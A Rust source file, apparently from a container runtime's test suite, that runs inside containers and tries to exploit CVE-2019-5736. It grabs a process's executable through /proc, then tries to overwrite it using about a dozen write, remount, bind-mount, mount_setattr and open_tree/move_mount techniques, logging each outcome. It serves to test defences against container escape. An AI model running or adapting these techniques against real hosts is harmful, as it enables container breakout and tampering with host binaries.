//! The program inside the containers: waits, ends, or attacks what it is told to.
//!
//! The attacker of CVE-2019-5736: it takes hold of the file that a process of its pid namespace
//! executes, and tries to write to that file, at once and again when nobody executes it any more.

use std::fs::{self, File, OpenOptions};
use std::io::Write as _;
use std::os::fd::{AsFd, AsRawFd as _, OwnedFd};
use std::os::unix::fs::OpenOptionsExt as _;
use std::path::Path;
use std::process::ExitCode;
use std::time::Duration;

use kan_sys::mount::{self, Change, Depth};
use nix::sched::{CloneFlags, setns};
use rustix::fs::{Mode, OFlags, open, openat};
use rustix::mount::{MountFlags, mount_bind, mount_remount};

/// Result of an attempt that reached the file.
pub const WRITTEN: &str = "written";

/// Does what the words say.
pub fn perform(words: &[String]) -> ExitCode {
    match words[0].as_str() {
        "wait" => loop {
            std::thread::park();
        },
        "attack" => match attack() {
            Ok(()) => ExitCode::SUCCESS,
            Err(error) => {
                eprintln!("attack: {error}");
                ExitCode::FAILURE
            }
        },
        _ => ExitCode::SUCCESS,
    }
}

type Answer<T = ()> = Result<T, Box<dyn std::error::Error>>;

/// `look` names a process; `caught` tells whether its file could be opened. Each `go-N` starts an
/// assault, whose attempts are told in `result-N`.
fn attack() -> Answer {
    let tmp = open("/tmp", OFlags::DIRECTORY | OFlags::CLOEXEC, Mode::empty())?;
    let proc = open("/proc", OFlags::DIRECTORY | OFlags::CLOEXEC, Mode::empty())?;
    let pid = await_file(&tmp, "look")?;
    let held = match Held::of(&pid) {
        Ok(held) => held,
        Err(error) => {
            answer(&tmp, "caught", &format!("refused: {error}"))?;
            return Ok(());
        }
    };
    answer(&tmp, "caught", &format!("holding {}", held.link))?;
    for round in 1.. {
        await_file(&tmp, &format!("go-{round}"))?;
        let mut told = Vec::new();
        for (place, namespace) in &held.namespaces {
            match setns(namespace, CloneFlags::CLONE_NEWNS) {
                Ok(()) => {
                    rustix::process::fchdir(&proc)?;
                    told.extend(held.assault().map(|line| format!("{place}: {line}")));
                }
                Err(errno) => told.push(format!("{place}: setns: {errno}")),
            }
        }
        answer(&tmp, &format!("result-{round}"), &told.join("\n"))?;
    }
    Ok(())
}

/// What the attacker has of another process.
struct Held {
    /// What its exe link reads.
    link: String,
    /// Its file, O_PATH and O_RDONLY.
    files: [(&'static str, OwnedFd); 2],
    /// Where the attacks start from: its mount namespace and the attacker's own, which comes last
    /// so that this is where the attacker stays.
    namespaces: [(&'static str, File); 2],
}

impl Held {
    fn of(pid: &str) -> Answer<Self> {
        let exe = format!("/proc/{pid}/exe");
        let take = |flags| open(&exe, flags | OFlags::CLOEXEC, Mode::empty());
        Ok(Self {
            link: fs::read_link(&exe)?.display().to_string(),
            files: [
                ("O_PATH", take(OFlags::PATH)?),
                ("O_RDONLY", take(OFlags::RDONLY)?),
            ],
            namespaces: [
                ("theirs", File::open(format!("/proc/{pid}/ns/mnt"))?),
                ("own", File::open("/proc/self/ns/mnt")?),
            ],
        })
    }

    /// Every way that is known, on both descriptors.
    fn assault(&self) -> impl Iterator<Item = String> {
        self.files.iter().flat_map(|(kind, file)| {
            ATTEMPTS
                .iter()
                .map(move |(name, attempt)| match attempt(file) {
                    Ok(()) => format!("{kind} {name}: {WRITTEN}"),
                    Err(error) => format!("{kind} {name}: {error}"),
                })
        })
    }
}

type Attempt = fn(&OwnedFd) -> Answer;

const ATTEMPTS: &[(&str, Attempt)] = &[
    ("open O_WRONLY", |file| overwrite(&own_path(file))),
    ("open O_RDWR", |file| {
        let opened = OpenOptions::new()
            .read(true)
            .write(true)
            .open(own_path(file));
        Ok(opened?.write_all(b"X")?)
    }),
    ("open O_APPEND", |file| {
        let opened = OpenOptions::new().append(true).open(own_path(file));
        Ok(opened?.write_all(b"X")?)
    }),
    ("open O_TRUNC", |file| {
        let flags = OFlags::TRUNC.bits().cast_signed();
        let mut options = OpenOptions::new();
        let opened = options.write(true).custom_flags(flags).open(own_path(file));
        Ok(opened.map(drop)?)
    }),
    ("write through the descriptor", |file| {
        Ok(rustix::io::write(file, b"X").map(drop)?)
    }),
    ("mount_setattr", |file| {
        mount::change(file, writable(), Depth::Single).map_err(told)?;
        overwrite(&own_path(file))
    }),
    ("mount_setattr recursively", |file| {
        mount::change(file, writable(), Depth::Recursive).map_err(told)?;
        overwrite(&own_path(file))
    }),
    ("remount", |file| {
        mount_remount(own_path(file), MountFlags::BIND, c"")?;
        overwrite(&own_path(file))
    }),
    ("bind and remount", |file| {
        let target = target()?;
        mount_bind(own_path(file), target)?;
        mount_remount(target, MountFlags::BIND, c"")?;
        overwrite(target)
    }),
    ("open_tree and mount_setattr", |file| {
        let tree = mount::clone_tree(file, c"", Depth::Single).map_err(told)?;
        mount::change(&tree, writable(), Depth::Single).map_err(told)?;
        overwrite(&own_path(&tree))
    }),
    ("open_tree, move_mount and remount", |file| {
        let tree = mount::clone_tree(file, c"", Depth::Single).map_err(told)?;
        take_place(&tree)
    }),
    ("move_mount and remount", |file| take_place(file)),
];

/// Relative to the attacker's own /proc, which is its working directory: that of another mount
/// namespace may be of a pid namespace in which the attacker does not exist.
fn own_path(file: &OwnedFd) -> String {
    format!("self/fd/{}", file.as_raw_fd())
}

fn overwrite(path: &str) -> Answer {
    Ok(OpenOptions::new().write(true).open(path)?.write_all(b"X")?)
}

fn writable() -> Change {
    Change {
        clear: mount::MOUNT_ATTR_RDONLY,
        ..Change::default()
    }
}

/// kan's own error type is made for `no_std`.
fn told(error: kan_sys::Error) -> String {
    error.to_string()
}

/// A file to mount on.
fn target() -> Answer<&'static str> {
    let path = "/tmp/target";
    if !Path::new(path).exists() {
        fs::write(path, "")?;
    }
    Ok(path)
}

/// Attaches what may be a mount over a file and makes it writable there.
fn take_place(tree: &OwnedFd) -> Answer {
    let path = target()?;
    let onto = open(path, OFlags::PATH | OFlags::CLOEXEC, Mode::empty())?;
    mount::attach(tree, onto).map_err(told)?;
    mount_remount(path, MountFlags::BIND, c"")?;
    overwrite(path)
}

/// Waits for a file and reads it. The other side is no process of this container, and inotify
/// would not be simpler.
fn await_file(tmp: &OwnedFd, name: &str) -> Answer<String> {
    loop {
        match openat(tmp, name, OFlags::RDONLY | OFlags::CLOEXEC, Mode::empty()) {
            Ok(file) => return Ok(std::io::read_to_string(File::from(file))?),
            Err(rustix::io::Errno::NOENT) => std::thread::sleep(Duration::from_millis(2)),
            Err(errno) => return Err(errno.into()),
        }
    }
}

/// Appears as a whole.
fn answer(tmp: &impl AsFd, name: &str, text: &str) -> Answer {
    let flags = OFlags::WRONLY | OFlags::CREATE | OFlags::CLOEXEC;
    let file = openat(tmp, "new", flags, Mode::from_raw_mode(0o600))?;
    File::from(file).write_all(text.as_bytes())?;
    Ok(rustix::fs::renameat(tmp, "new", tmp, name)?)
}
